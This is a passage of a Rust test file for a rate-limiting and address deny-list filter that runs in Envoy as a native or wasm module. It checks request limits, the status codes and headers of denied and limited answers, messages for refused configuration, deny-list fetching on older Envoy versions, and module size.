    const LIMIT: usize = 50;
    const PLUGIN: &str = r#"{"rate_limits": [
        {"name": "all", "requests": 50, "per_seconds": 86400, "key": ["host"]}
    ]}"#;
    let own = Own::start(host, "shared", Setup { plugin: PLUGIN, before: "", feed: 0 });
    let request = Request::get("/a").header("host", "one.example");
    let passed: usize = std::thread::scope(|scope| {
        let client =
            || scope.spawn(|| (0..20).filter(|_| own.status(client(), &request) == 200).count());
        let clients: Vec<_> = (0..8).map(|_| client()).collect();
        clients.into_iter().map(|client| client.join().unwrap()).sum()
    });
    assert_eq!(passed, LIMIT);
}

/// Status, headers and body of answers, and their words for gRPC.
fn answers_are_the_same(host: Host) {
    let denied = client();
    let plugin = format!(
        r#"{{"address_lists": {{"deny": ["{denied}"]}}, "rate_limits": [{{"name": "one", "requests": 1,
            "per_seconds": 3600, "headers_on_allowed": true}}]}}"#
    );
    let own = Own::start(host, "answers", Setup { plugin: &plugin, before: "", feed: 0 });
    let get = Request::get("/echo");
    let call = Request::post("/a.B/C", "application/grpc", "").header("te", "trailers");
    let limited = client();
    let rows = [
        (denied, &get, "403 - - application/problem+json no-store"),
        (denied, &call, "200 7 - application/grpc no-store"),
        (limited, &get, "200 - \"one\";q=1;w=3600 application/json -"),
        (limited, &get, "429 - \"one\";q=1;w=3600 application/problem+json no-store"),
        (limited, &call, "200 14 \"one\";q=1;w=3600 application/grpc no-store"),
    ];
    for (from, request, expected) in rows {
        let answer = own.0.send(from, request).unwrap();
        let fields = ["grpc-status", "ratelimit-policy", "content-type", "cache-control"]
            .map(|name| answer.header(name).unwrap_or("-").to_owned());
        assert_eq!(format!("{} {}", answer.status, fields.join(" ")), expected, "{request:?}");
        if answer.status >= 400 {
            let body = answer.json();
            assert_eq!(body["status"], answer.status);
            assert_eq!(body["request_id"].as_str().map(str::len), Some(36), "{body}");
        }
    }
}

/// What the native module cannot do is refused when Envoy starts, and what the wasm-filter refuses, in its words.
#[test]
fn the_native_module_refuses() {
    for (plugin, words) in [
        (
            r#"{"rate_limits": [{"requests": 0}], "geo": {}}"#,
            "geo: write one of table, from_header and feed",
        ),
        (r#"{"rate_limit": []}"#, "rate_limit: there is no such field; the fields here are"),
        (
            r#"{"first_verdict": {"seclang": ""}}"#,
            "first_verdict: the module gives no first verdicts",
        ),
        (
            r#"{"rate_limits": [{"requests": 1, "key": [{"jwt_claim": "sub", "absent": "skip"}]}]}"#,
            "claim_to_headers",
        ),
    ] {
        let setup = Setup { plugin, ..Setup::default() };
        let told = Filter::start_in(Host::Native, &folder("native-refused"), setup, 0);
        let told = told.unwrap_err().to_string();
        assert!(told.contains("glacis: the configuration is refused: "), "{told}");
        assert!(told.contains(words), "{words}: {told}");
    }
}

/// One file for all supported versions of Envoy: filter state, headers, calls for lists and their ticks.
#[test]
fn older_envoys_make_native_checks() {
    const SOON: Duration = Duration::from_secs(15);
    for (place, envoy) in settings::older_envoys().unwrap().into_iter().enumerate() {
        let server = ListServer::start().unwrap();
        let listed = client();
        server.change(|served| served.body = format!("{listed} deny"));
        let setup = Setup { plugin: FEED, before: "", feed: server.port };
        let folder = folder(&format!("native-older-{place}"));
        let own = Own(Filter::start_with(&envoy, Host::Native, &folder, setup, 0).unwrap());
        let get = Request::get("/a");
        eventually("the list is there", SOON, || own.status(listed, &get) == 403);
        assert_eq!(own.status(client(), &get), 200);
        assert!(own.counted(Counted::Denied) > 0);
        assert_eq!(own.counted(Counted::ListEntries), 1);
        eventually("the verdict is in the log", SOON, || {
            own.0.logged(listed, "verdict").unwrap().contains(&"denied:list".to_owned())
        });
    }
}

/// What everybody has to load: 1 MiB at most.
#[test]
fn the_module_is_small() {
    let bytes = settings::wasm().unwrap().metadata().unwrap().len();
    let with_engine = settings::wasm_with_engine().unwrap().metadata().unwrap().len();
    println!("the module has {bytes} bytes, with the engine {with_engine}");
    assert!((100_000..1 << 20).contains(&bytes), "{bytes} bytes");
    assert!((1 << 20..4 << 20).contains(&with_engine), "{with_engine} bytes");
}
